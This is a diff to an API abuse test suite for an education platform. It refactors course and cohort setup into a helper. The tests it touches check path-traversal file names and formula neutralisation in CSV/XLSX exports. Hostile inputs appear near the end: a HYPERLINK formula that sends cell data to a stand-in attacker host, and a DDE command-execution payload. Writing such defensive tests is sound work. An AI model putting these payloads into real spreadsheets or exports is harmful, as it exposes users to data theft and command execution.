@@ -29,6 +29,28 @@ describe('abuse', () => {
     return res;
   };
 
+  /** A new course and a cohort of it in Hà Nội; the cohort's id. */
+  const newCohort = async (): Promise<string> => {
+    const course = `c${randomUUID().slice(0, 8)}`;
+    await request(t.url)
+      .post('/api/v1/courses')
+      .set(as(admin))
+      .send({
+        code: course,
+        title: 'Khoá',
+        activityId: `https://x.vn/${course}`,
+        completion: { moveOn: 'Completed' },
+      })
+      .expect(201);
+    return (
+      await request(t.url)
+        .post('/api/v1/cohorts')
+        .set(as(admin))
+        .send({ code: `${course}-1`, title: 'Lớp', courseCode: course, province: 'Hà Nội' })
+        .expect(201)
+    ).body.id as string;
+  };
+
   beforeAll(async () => {
     ({ t, admin } = await startAdminApp({ worker: true, env: { HOCBA_XAPI_BODY_LIMIT: String(64 * 1024) } }));
   });
@@ -232,24 +254,7 @@ describe('abuse', () => {
         expect(res.text).not.toContain('"dependencies"');
       }
       // An uploaded file's name is only a label: nothing is written where it points.
-      const course = `c${randomUUID().slice(0, 8)}`;
-      await request(t.url)
-        .post('/api/v1/courses')
-        .set(as(admin))
-        .send({
-          code: course,
-          title: 'Khoá',
-          activityId: `https://x.vn/${course}`,
-          completion: { moveOn: 'Completed' },
-        })
-        .expect(201);
-      const cohort = (
-        await request(t.url)
-          .post('/api/v1/cohorts')
-          .set(as(admin))
-          .send({ code: `${course}-1`, title: 'Lớp', courseCode: course, province: 'Hà Nội' })
-          .expect(201)
-      ).body.id;
+      const cohort = await newCohort();
       const target = `/tmp/hocba-traversal-${randomUUID().slice(0, 8)}.csv`;
       const job = await request(t.url)
         .post(`/api/v1/cohorts/${cohort}/enrollments/import`)
@@ -266,24 +271,7 @@ describe('abuse', () => {
     });
 
     it('neutralises formulas in exported cells (CSV and XLSX)', async () => {
-      const course = `f${randomUUID().slice(0, 8)}`;
-      await request(t.url)
-        .post('/api/v1/courses')
-        .set(as(admin))
-        .send({
-          code: course,
-          title: 'Khoá',
-          activityId: `https://x.vn/${course}`,
-          completion: { moveOn: 'Completed' },
-        })
-        .expect(201);
-      const cohort = (
-        await request(t.url)
-          .post('/api/v1/cohorts')
-          .set(as(admin))
-          .send({ code: `${course}-1`, title: 'Lớp', courseCode: course, province: 'Hà Nội' })
-          .expect(201)
-      ).body.id;
+      const cohort = await newCohort();
       const hostile = [
         '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
         "+1+cmd|' /C calc'!A0",
